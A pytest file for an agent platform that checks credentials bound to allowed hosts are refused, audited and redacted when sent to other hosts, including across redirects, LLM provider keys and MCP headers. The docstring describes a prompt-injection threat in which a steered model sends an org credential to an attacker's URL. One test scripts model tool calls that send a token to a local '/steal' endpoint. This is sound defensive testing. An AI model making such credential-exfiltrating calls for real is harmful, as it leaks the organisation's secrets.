"""Credentials bound to allowed hosts (SQLite and PostgreSQL).

Threat model: a model steered by a prompt injection (a web page, an MCP tool description or
result) calls ``http_request`` with ``credential=<any credential of the org>`` and a URL of
its choosing, or a package's templated URL is filled from state it controls. A credential
with allowed hosts is then refused before a single byte is sent (the target server records
nothing), the refusal names the credential, the host and the fix, and is audited as
``credential.use_refused`` -- never with the value. The same binding holds for LLM provider
keys (the provider's base URL) and MCP server headers (the server's URL); redirects to
another origin drop every header holding a credential. An empty list keeps the old
behaviour: any host.
"""

from __future__ import annotations

import html
import json
import secrets
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from enginex.agents.cli import zip_directory
from enginex.kit.errors import NOT_FOUND_MESSAGE
from tests.conftest import separate_deployment
from tests.factories import (
    Org,
    Server,
    anonymous,
    make_org,
    make_platform_admin,
    wait_for_status,
)
from tests.fake_llm import FakeLLM, FakeReply, serve
from tests.mcp_servers import serve_http_mcp

EXPECTED_404 = {"error": {"code": "not_found", "message": NOT_FOUND_MESSAGE, "details": {}}}


def url(org: Org, suffix: str = "") -> str:
    return f"/api/v1/orgs/{org.slug}/credentials{suffix}"


def canary(label: str) -> str:
    return f"canary-{label}-{secrets.token_hex(12)}"


def create(org: Org, **body: Any) -> dict[str, Any]:
    response = org.admin.client.post(url(org), json=body)
    assert response.status_code == 201, response.text
    return dict(response.json())


def patch(org: Org, credential_id: str, **body: Any) -> dict[str, Any]:
    response = org.admin.client.patch(url(org, f"/{credential_id}"), json=body)
    assert response.status_code == 200, response.text
    return dict(response.json())


def audit(org: Org, action: str) -> list[dict[str, Any]]:
    response = org.admin.client.get(f"/api/v1/orgs/{org.slug}/audit",
                                    params={"action": action, "limit": 200})
    assert response.status_code == 200, response.text
    return list(response.json()["items"])


# --- API: validation, round trip, audit ----------------------------------------------------------

INVALID: list[tuple[Any, str]] = [
    (["https://api.example.com"], "without scheme"),
    (["api.example.com/v1"], "without scheme"),
    (["user@api.example.com"], "without scheme"),
    (["a.*.example.com"], "leftmost label"),
    (["api*.example.com"], "leftmost label"),
    (["*.com"], "at least two labels"),
    (["*"], "leave the list empty"),
    (["*.10.0.0.1"], "not an IP address"),
    (["api.example.com:0"], "port"),
    (["api.example.com:99999"], "port"),
    (["-bad-.example.com"], "letters, digits"),
    (["a..example.com"], "letters, digits"),
    ([""], "empty"),
    ([f"h{i}.example.com" for i in range(21)], "20"),
    (["x" * 301], "300"),
    ("api.example.com", "list"),
    ([7], "string"),
]


def test_create_and_update_refuse_bad_patterns_with_a_clear_422(org_a: Org) -> None:
    secret = canary("v")
    for hosts, hint in INVALID:
        response = org_a.admin.client.post(url(org_a), json={
            "name": "bound", "type": "api_key", "values": {"key": secret},
            "allowed_hosts": hosts})
        assert response.status_code == 422, (hosts, response.text)
        error = response.json()["error"]
        assert "allowed_hosts" in json.dumps(error), (hosts, error)
        assert hint in error["message"] or hint in json.dumps(error["details"]), (hosts, error)
        assert secret not in response.text
    # The message names the offending entry (hosts are not secret) and what to write.
    bad = org_a.admin.client.post(url(org_a), json={
        "name": "bound", "type": "api_key", "values": {"key": secret},
        "allowed_hosts": ["api.example.com", "https://evil.example/x"]})
    message = bad.json()["error"]["message"]
    assert message.startswith("allowed_hosts: 'https://evil.example/x': write only the host")
    assert bad.json()["error"]["details"] == {"field": "allowed_hosts"}
    assert org_a.admin.client.get(url(org_a)).json() == []

    made = create(org_a, name="bound", type="api_key", values={"key": secret})
    for hosts, _hint in INVALID:
        response = org_a.admin.client.patch(url(org_a, f"/{made['id']}"),
                                            json={"allowed_hosts": hosts})
        assert response.status_code == 422, (hosts, response.text)
    null = org_a.admin.client.patch(url(org_a, f"/{made['id']}"), json={"allowed_hosts": None})
    assert null.status_code == 422
    assert "send [] to allow any host" in null.json()["error"]["message"]
    assert org_a.admin.client.get(url(org_a, f"/{made['id']}")).json()["allowed_hosts"] == []


def test_allowed_hosts_round_trip_normalised_and_audited(org_a: Org) -> None:
    secret = canary("round")
    made = create(org_a, name="gh", type="bearer_token", values={"token": secret},
                  allowed_hosts=["API.GitHub.com.", "*.Example.org:8443", "bücher.de",
                                 "api.github.com", "127.0.0.1:8080", "[0:0::1]"])
    normal = ["api.github.com", "*.example.org:8443", "xn--bcher-kva.de", "127.0.0.1:8080",
              "[::1]"]
    assert made["allowed_hosts"] == normal
    assert org_a.admin.client.get(url(org_a, f"/{made['id']}")).json()["allowed_hosts"] == \
        normal
    # Builders see them on the credentials page (the API's list stays names and fields).
    page = org_a.members["builder"].client.get(f"/o/{org_a.slug}/settings/credentials")
    assert "<code>api.github.com</code>, <code>*.example.org:8443</code>" in page.text

    narrowed = patch(org_a, made["id"], allowed_hosts=["api.github.com"])
    assert narrowed["allowed_hosts"] == ["api.github.com"]
    assert narrowed["value_version"] == 1  # the values are untouched
    patch(org_a, made["id"], allowed_hosts=["api.github.com"])  # no change
    opened = patch(org_a, made["id"], allowed_hosts=[])
    assert opened["allowed_hosts"] == []
    omitted = create(org_a, name="open", type="api_key", values={"key": canary("open")})
    assert omitted["allowed_hosts"] == []

    created = [e for e in audit(org_a, "credential.created") if e["details"]["name"] == "gh"]
    assert created[0]["details"]["allowed_hosts"] == normal
    updated = [e["details"] for e in audit(org_a, "credential.updated")]
    changes = sorted(json.dumps(d, sort_keys=True) for d in updated if d["name"] == "gh")
    assert changes == sorted(json.dumps(d, sort_keys=True) for d in [
        {"name": "gh", "changed": ["allowed_hosts"], "allowed_hosts": ["api.github.com"],
         "previous_allowed_hosts": normal},
        {"name": "gh", "changed": []},
        {"name": "gh", "changed": ["allowed_hosts"], "allowed_hosts": [],
         "previous_allowed_hosts": ["api.github.com"]}])
    assert secret not in json.dumps(audit(org_a, "credential."))


def test_who_may_change_allowed_hosts(server: Server, org_a: Org, org_b: Org) -> None:
    made = create(org_a, name="guarded", type="api_key", values={"key": canary("g")},
                  allowed_hosts=["api.example.com"])
    target = url(org_a, f"/{made['id']}")
    body = {"allowed_hosts": ["evil.example"]}
    with anonymous(server) as anon:
        assert anon.patch(target, json=body).status_code == 401
    for role in ("builder", "operator", "viewer"):
        assert org_a.members[role].client.patch(target, json=body).status_code == 403
    foreign = org_b.admin.client.patch(url(org_b, f"/{made['id']}"), json=body)
    missing = org_b.admin.client.patch(url(org_b, f"/{uuid.uuid4()}"), json=body)
    assert foreign.status_code == missing.status_code == 404
    assert foreign.json() == missing.json() == EXPECTED_404
    assert org_a.admin.client.get(target).json()["allowed_hosts"] == ["api.example.com"]


# --- the dashboard ------------------------------------------------------------------------------


def test_the_page_sets_shows_and_replaces_allowed_hosts(org_a: Org) -> None:
    page = f"/o/{org_a.slug}/settings/credentials"
    admin, operator = org_a.admin.client, org_a.members["operator"].client
    secret = canary("page")
    form = admin.get(page)
    assert "Allowed hosts (one per line)" in form.text
    bad = admin.post(page, data={"type": "api_key", "name": "crm", "value.key": secret,
                                 "allowed_hosts": "api.crm.example\nhttps://crm.example/x"})
    assert bad.status_code == 422
    text = html.unescape(bad.text)
    assert "allowed_hosts: 'https://crm.example/x': write only the host" in text
    assert "api.crm.example\nhttps://crm.example/x</textarea>" in text  # typed hosts kept
    assert secret not in text

    made = admin.post(page, data={"type": "api_key", "name": "crm", "value.key": secret,
                                  "allowed_hosts": " API.crm.example \n\n*.crm.example\n"})
    assert made.status_code == 303
    listed = next(c for c in admin.get(url(org_a)).json() if c["name"] == "crm")
    meta = admin.get(url(org_a, f"/{listed['id']}")).json()
    assert meta["allowed_hosts"] == ["api.crm.example", "*.crm.example"]
    shown = operator.get(page).text
    assert "<code>api.crm.example</code>, <code>*.crm.example</code>" in shown

    listing = admin.get(page).text
    assert "api.crm.example\n*.crm.example</textarea>" in listing  # the replace form's box
    replaced = admin.post(f"{page}/{meta['id']}/replace",
                          data={"value.key": canary("new"), "allowed_hosts": "crm.example"})
    assert replaced.status_code == 303
    after = admin.get(url(org_a, f"/{meta['id']}")).json()
    assert after["allowed_hosts"] == ["crm.example"] and after["value_version"] == 2
    refused = admin.post(f"{page}/{meta['id']}/replace",
                         data={"value.key": canary("new"), "allowed_hosts": "*.com"})
    assert refused.status_code == 422 and "at least two labels" in html.unescape(refused.text)
    cleared = admin.post(f"{page}/{meta['id']}/replace",
                         data={"value.key": canary("new"), "allowed_hosts": ""})
    assert cleared.status_code == 303
    assert admin.get(url(org_a, f"/{meta['id']}")).json()["allowed_hosts"] == []
    assert "any host" in operator.get(page).text


# --- runs: a deployment that may reach 127.0.0.1 ------------------------------------------------


@pytest.fixture(scope="module")
def hosts_server(backend: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with separate_deployment(backend, tmp_path_factory.mktemp(f"hosts-{backend}"),
                             allow_private_network=True) as deployment:
        yield deployment


@pytest.fixture(scope="module")
def tenant(hosts_server: Server) -> Org:
    return make_org(hosts_server, make_platform_admin(hosts_server), "ha")


class Echo(BaseHTTPRequestHandler):
    """Records and echoes every request; ``/redirect?to=URL&code=N`` redirects first."""

    received: list[dict[str, Any]] = []

    def _handle(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length).decode() if length else ""
        parts = urlsplit(self.path)
        query = parse_qs(parts.query)
        seen = {"method": self.command, "path": parts.path, "host": self.headers.get("host"),
                "headers": {k.lower(): v for k, v in self.headers.items()}, "body": body}
        Echo.received.append(seen)
        if parts.path == "/redirect":
            self.send_response(int(query.get("code", ["302"])[0]))
            self.send_header("Location", query["to"][0])
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        data = json.dumps(seen).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = _handle

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def echo() -> Iterator[str]:
    with serve(Echo) as base_url:
        yield base_url


@pytest.fixture(autouse=True)
def _reset_echo() -> None:
    Echo.received.clear()


def deploy(org: Org, tmp_path: Path, agent_id: str, nodes: list[dict[str, Any]], *,
           edges: list[dict[str, Any]] | None = None,
           scripted: dict[str, Any] | None = None,
           inputs: dict[str, Any] | None = None) -> None:
    manifest: dict[str, Any] = {
        "agent": {"id": agent_id, "name": agent_id, "version": "1.0.0"},
        "graph": {"entry_node": nodes[0]["id"], "terminal_nodes": [nodes[-1]["id"]],
                  "max_steps": 10, "nodes": nodes, "edges": edges or []}}
    if scripted:
        manifest["scripted_replies"] = scripted
    if inputs:
        manifest["inputs"] = inputs
    directory = tmp_path / f"{agent_id}-{secrets.token_hex(3)}"
    directory.mkdir()
    (directory / "agent.json").write_text(json.dumps(manifest))
    response = org.members["builder"].client.post(
        f"/api/v1/orgs/{org.slug}/agents",
        files={"package": ("package.zip", zip_directory(directory), "application/zip")})
    assert response.status_code in (200, 201), response.text


def run(org: Org, agent_id: str, inputs: dict[str, Any] | None = None
        ) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    response = org.members["operator"].client.post(f"/api/v1/orgs/{org.slug}/sessions",
                                                   json={"agent": agent_id,
                                                         "inputs": inputs or {}})
    assert response.status_code == 201, response.text
    session = wait_for_status(org, response.json()["id"], {"succeeded", "failed"}, 60)
    events = org.admin.client.get(
        f"/api/v1/orgs/{org.slug}/sessions/{session['id']}/events").json()
    return session, events


def call_node(arguments: dict[str, Any], node_id: str = "call") -> dict[str, Any]:
    return {"id": node_id, "node_type": "tool", "tool": "http_request",
            "arguments": arguments, "output_key": node_id}


def unique(prefix: str) -> str:
    return f"{prefix}-{secrets.token_hex(3)}"


def refusals(org: Org, run_id: str) -> list[dict[str, Any]]:
    return [e["details"] for e in audit(org, "credential.use_refused")
            if e["details"].get("run_id") == run_id]


def uses(org: Org, run_id: str, name: str) -> list[dict[str, Any]]:
    return [e["details"] for e in audit(org, "credential.used")
            if e["details"].get("run_id") == run_id and e["details"]["name"] == name]


def test_http_request_sends_a_bound_credential_only_to_its_hosts(
        tenant: Org, echo: str, tmp_path: Path) -> None:
    port = int(echo.rsplit(":", 1)[1])
    ok_secret, other_secret, open_secret = canary("ok"), canary("other"), canary("open")
    ok = unique("ok")
    create(tenant, name=ok, type="bearer_token", values={"token": ok_secret},
           allowed_hosts=[f"127.0.0.1:{port}"])
    other = unique("other")
    create(tenant, name=other, type="api_key", values={"key": other_secret},
           allowed_hosts=["api.example.com", "*.example.org"])
    unbound = unique("open")
    create(tenant, name=unbound, type="api_key", values={"key": open_secret})

    # The allowed host gets it.
    deploy(tenant, tmp_path, agent := unique("allowed"),
           [call_node({"url": f"{echo}/echo", "credential": ok})])
    session, _events = run(tenant, agent)
    assert session["status"] == "succeeded", session
    assert Echo.received[-1]["headers"]["authorization"] == f"Bearer {ok_secret}"

    # Another host: refused before any byte is sent, and before the value is decrypted.
    Echo.received.clear()
    deploy(tenant, tmp_path, agent := unique("refused"),
           [call_node({"url": f"{echo}/echo", "credential": other})])
    session, events = run(tenant, agent)
    assert session["status"] == "failed"
    assert session["error"] == (
        f"the credential '{other}' may not be sent to 127.0.0.1 (port {port}): that host is "
        "not one of its allowed hosts. If it should be, an organization admin can add the "
        "host to the credential's allowed hosts (Settings -> Credentials, or PATCH "
        "/api/v1/orgs/{org}/credentials/{id} with allowed_hosts)")
    assert Echo.received == []
    [refused] = refusals(tenant, session["id"])
    assert refused == {"name": other, "run_id": session["id"], "node_id": "call",
                       "host": "127.0.0.1", "port": port, "reason": "host not allowed"}
    assert uses(tenant, session["id"], other) == []
    stored = json.dumps([session, events, audit(tenant, "credential.")])
    assert other_secret not in stored

    # The same host under another name (localhost) is another host.
    deploy(tenant, tmp_path, agent := unique("alias"),
           [call_node({"url": f"http://localhost:{port}/echo", "credential": ok})])
    session, _events = run(tenant, agent)
    assert session["status"] == "failed" and "may not be sent to localhost" in session["error"]
    assert Echo.received == []

    # An empty list keeps working for any host.
    deploy(tenant, tmp_path, agent := unique("open"),
           [call_node({"url": f"http://localhost:{port}/echo", "credential": unbound,
                       "credential_header": "X-Api-Key"})])
    session, _events = run(tenant, agent)
    assert session["status"] == "succeeded", session
    assert Echo.received[-1]["headers"]["x-api-key"] == open_secret


def test_a_model_cannot_send_a_bound_credential_elsewhere(
        tenant: Org, echo: str, tmp_path: Path) -> None:
    """The injected case: the model names the credential and an attacker's URL. The tool
    answers with the refusal; the step goes on; the attacker received nothing."""
    port = int(echo.rsplit(":", 1)[1])
    secret = canary("llm")
    name = unique("crm")
    create(tenant, name=name, type="bearer_token", values={"token": secret},
           allowed_hosts=[f"127.0.0.1:{port}"])
    scripted = {"think": [
        {"tool_calls": [
            {"name": "http_request", "arguments": {"url": f"http://localhost:{port}/steal",
                                                   "credential": name}},
            {"name": "http_request", "arguments": {"url": f"{echo}/legit",
                                                   "credential": name}},
            {"name": "http_request", "arguments": {"url": f"http://localhost:{port}/again",
                                                   "credential": name}}]},
        {"tool_calls": [{"name": "set_output", "arguments": {"key": "answer",
                                                             "value": "done"}}]}]}
    deploy(tenant, tmp_path, agent := unique("think"),
           [{"id": "think", "node_type": "llm", "tools": ["http_request"],
             "output_keys": ["answer"]}], scripted=scripted)
    session, events = run(tenant, agent)
    assert session["status"] == "succeeded", session
    assert [r["path"] for r in Echo.received] == ["/legit"]
    results = [e["data"]["result"] for e in events if e["kind"] == "tool_result"
               and e["data"]["tool"] == "http_request"]
    assert results[0].startswith(f"error: the credential '{name}' may not be sent to "
                                 "localhost")
    assert "[redacted]" in results[1]
    assert results[2].startswith("error: the credential")  # refused again, once resolved
    assert [(r["host"], r["node_id"]) for r in refusals(tenant, session["id"])] == [
        ("localhost", "think"), ("localhost", "think")]
    assert len(uses(tenant, session["id"], name)) == 1
    assert secret not in json.dumps(events)


def test_placeholders_are_checked_against_the_rendered_url(
        tenant: Org, echo: str, tmp_path: Path) -> None:
    port = int(echo.rsplit(":", 1)[1])
    secret = canary("placeholder")
    name = unique("ph")
    create(tenant, name=name, type="api_key", values={"key": secret},
           allowed_hosts=[f"127.0.0.1:{port}"])
    node = call_node({"url": "{{ inputs.target }}",
                      "headers": {"X-Api-Key": f"{{{{credentials.{name}.key}}}}"}})
    deploy(tenant, tmp_path, agent := unique("templated"), [node],
           inputs={"target": {"type": "string"}})
    session, _events = run(tenant, agent, {"target": f"{echo}/fine"})
    assert session["status"] == "succeeded", session
    assert Echo.received[-1]["headers"]["x-api-key"] == secret
    # The URL comes from the run's inputs: another host is refused, nothing is sent.
    Echo.received.clear()
    session, events = run(tenant, agent, {"target": f"http://localhost:{port}/steal"})
    assert session["status"] == "failed"
    assert session["error"].startswith(f"the credential '{name}' may not be sent to localhost")
    assert Echo.received == [] and secret not in json.dumps(events)
    assert uses(tenant, session["id"], name) == []  # refused before decrypting
    assert [r["host"] for r in refusals(tenant, session["id"])] == ["localhost"]

    # A bound credential in another tool's arguments has no host to check: refused.
    deploy(tenant, tmp_path, agent := unique("other-tool"),
           [{"id": "out", "node_type": "tool", "tool": "set_output",
             "arguments": {"key": "k", "value": f"{{{{credentials.{name}.key}}}}"}}])
    session, _events = run(tenant, agent)
    assert session["status"] == "failed"
    assert "has no http(s) URL whose host could be checked" in session["error"]
    assert refusals(tenant, session["id"])[0]["reason"] == "no host to check"


def test_redirects_to_another_origin_drop_or_refuse_credentials(
        tenant: Org, echo: str, tmp_path: Path) -> None:
    port = int(echo.rsplit(":", 1)[1])
    token, key = canary("redirect-token"), canary("redirect-key")
    bearer, api = unique("rt"), unique("rk")
    create(tenant, name=bearer, type="bearer_token", values={"token": token},
           allowed_hosts=[f"127.0.0.1:{port}"])
    create(tenant, name=api, type="api_key", values={"key": key},
           allowed_hosts=[f"127.0.0.1:{port}"])
    elsewhere = f"http://localhost:{port}/landed"
    deploy(tenant, tmp_path, agent := unique("hop"), [call_node({
        "url": f"{echo}/redirect?to={elsewhere}", "credential": bearer,
        "headers": {"X-Api-Key": f"{{{{credentials.{api}.key}}}}", "X-Plain": "kept"}})])
    session, _events = run(tenant, agent)
    assert session["status"] == "succeeded", session
    first, landed = Echo.received
    assert first["headers"]["authorization"] == f"Bearer {token}"
    assert first["headers"]["x-api-key"] == key
    assert landed["path"] == "/landed" and landed["host"] == f"localhost:{port}"
    assert "authorization" not in landed["headers"] and "x-api-key" not in landed["headers"]
    assert landed["headers"]["x-plain"] == "kept"

    # Same origin: the credential follows the redirect.
    Echo.received.clear()
    deploy(tenant, tmp_path, agent := unique("same"), [call_node({
        "url": f"{echo}/redirect?to=/landed", "credential": bearer})])
    session, _events = run(tenant, agent)
    assert session["status"] == "succeeded", session
    assert Echo.received[-1]["headers"]["authorization"] == f"Bearer {token}"

    # A 307 would resend a body holding a credential to the other origin: refused.
    Echo.received.clear()
    deploy(tenant, tmp_path, agent := unique("body"), [call_node({
        "method": "POST", "url": f"{echo}/redirect?code=307&to={elsewhere}",
        "json": {"key": f"{{{{credentials.{api}.key}}}}"}})])
    session, events = run(tenant, agent)
    assert session["status"] == "failed"
    assert session["error"] == ("http_request: refused to follow the redirect to "
                                "http://localhost: it would resend a body holding a "
                                "credential to another origin")
    assert [r["path"] for r in Echo.received] == ["/redirect"]
    assert key not in json.dumps(events)


def test_an_llm_provider_key_bound_to_another_host_fails_the_step(
        tenant: Org, tmp_path: Path) -> None:
    key = canary("llm-key")
    name = unique("llm")
    created = create(tenant, name=name, type="bearer_token", values={"token": key},
                     allowed_hosts=["api.openai.com"])
    admin = tenant.admin.client
    with FakeLLM() as fake:
        provider = admin.post(f"/api/v1/orgs/{tenant.slug}/llm/providers", json={
            "name": (provider_name := unique("p")), "kind": "openai_compatible",
            "base_url": fake.openai_base_url, "credential_name": name,
            "allowed_models": ["gpt-fake"]})
        assert provider.status_code == 201, provider.text
        deploy(tenant, tmp_path, agent := unique("talker"),
               [{"id": "talk", "node_type": "llm", "model": f"{provider_name}/gpt-fake",
                 "output_keys": ["answer"]}])
        session, events = run(tenant, agent)
        assert session["status"] == "failed"
        host = fake.openai_base_url.split("//", 1)[1].split("/", 1)[0]
        assert f"may not be sent to 127.0.0.1 (port {host.rsplit(':', 1)[1]})" in \
            session["error"]
        assert f"cannot use its credential: the credential '{name}'" in session["error"]
        assert "add the host to the credential's allowed hosts" in session["error"]
        assert fake.requests == []
        assert [r["node_id"] for r in refusals(tenant, session["id"])] == ["talk"]
        assert key not in json.dumps(events)
        # The admin's provider test is bound the same way.
        tested = admin.post(f"/api/v1/orgs/{tenant.slug}/llm/providers/"
                            f"{provider.json()['id']}/test")
        assert tested.status_code == 200 and tested.json()["ok"] is False
        assert "may not be sent to 127.0.0.1" in tested.json()["message"]
        assert fake.requests == []
        assert [e["details"].get("purpose") for e in audit(tenant, "credential.use_refused")
                if e["details"].get("name") == name].count("llm_provider.test") == 1

        # Bound to the provider's host: the run reaches it.
        patch(tenant, created["id"], allowed_hosts=[host])
        fake.queue(FakeReply(text="hi", tool_calls=[("set_output", {"key": "answer",
                                                                    "value": "ok"})]))
        session, _events = run(tenant, agent)
        assert session["status"] == "succeeded", session
        assert fake.requests[-1].headers["authorization"] == f"Bearer {key}"


def test_an_mcp_header_credential_bound_to_another_host_fails(
        tenant: Org, tmp_path: Path) -> None:
    token = "tok-" + secrets.token_hex(16)
    name = unique("mcp")
    created = create(tenant, name=name, type="bearer_token", values={"token": token})
    server_name = unique("remote")
    admin = tenant.admin.client
    with serve_http_mcp() as remote_url:
        added = admin.post(f"/api/v1/orgs/{tenant.slug}/mcp/servers", json={
            "name": server_name, "transport": "http", "url": remote_url,
            "headers": {"Authorization": {"credential": name}}})
        assert added.status_code == 201, added.text
        refreshed = admin.post(f"/api/v1/orgs/{tenant.slug}/mcp/servers/"
                               f"{added.json()['id']}/refresh")
        assert refreshed.status_code == 200 and refreshed.json()["ok"] is True, refreshed.text
        patch(tenant, created["id"], allowed_hosts=["mcp.example.com"])
        deploy(tenant, tmp_path, agent := unique("mcp-agent"),
               [{"id": "who", "node_type": "tool", "tool": f"mcp.{server_name}.whoami",
                 "arguments": {}, "output_key": "who"}])
        session, events = run(tenant, agent)
        assert session["status"] == "failed"
        assert f"the credential '{name}' may not be sent to 127.0.0.1" in session["error"]
        assert "allowed hosts" in session["error"]
        assert [r["node_id"] for r in refusals(tenant, session["id"])] == ["who"]
        assert token not in json.dumps(events)
        # The admin's refresh (tool discovery) is held to the same hosts.
        refused = admin.post(f"/api/v1/orgs/{tenant.slug}/mcp/servers/"
                             f"{added.json()['id']}/refresh")
        assert refused.status_code == 200 and refused.json()["ok"] is False, refused.text
        assert f"the credential '{name}' may not be sent to 127.0.0.1" in refused.text
        assert token not in refused.text

        patch(tenant, created["id"], allowed_hosts=["127.0.0.1"])  # any port of the host
        session, events = run(tenant, agent)
        assert session["status"] == "succeeded", session
        assert "Bearer [redacted]" in json.dumps(events)

